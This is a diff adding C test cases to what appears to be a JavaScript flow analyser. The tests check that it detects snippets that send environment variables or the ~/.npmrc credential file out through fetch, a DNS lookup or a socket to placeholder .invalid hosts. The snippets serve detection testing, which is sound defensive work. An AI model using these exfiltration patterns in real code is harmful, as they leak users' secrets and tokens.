@@ -398,6 +398,27 @@ TEST(vm_flows)
                "net.send host=h.invalid +npm");
 }
 
+/* Where a setting says that something goes is not what goes there. */
+TEST(vm_addresses_of_which_nothing_is_known_carry_nothing)
+{
+        reject("fetch(require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'))",
+               "net.send");
+        reject("const e = {...process.env}; fetch(e[k])", "net.send");
+        expect("fetch('https://x.invalid/?' + JSON.stringify(process.env))", "net.send +env");
+        expect("fetch(base + '/?q=' + JSON.stringify(process.env))", "net.send +env");
+        expect("const e = JSON.stringify(process.env); require('dns').lookup(e + '.x.invalid', f)",
+               "dns.query +env");
+}
+
+TEST(vm_pipes_on_this_machine_are_no_network)
+{
+        expect("require('net').connect('/tmp/' + Object.keys(process.env)[0])",
+               "net.connect how=ipc");
+        reject("require('net').connect('/tmp/' + JSON.stringify(process.env))", "net.send");
+        expect("require('net').connect(80, JSON.stringify(process.env) + '.x.invalid')",
+               "net.send +env");
+}
+
 TEST(vm_flows_between_files)
 {
         static const struct file commonjs[] = {
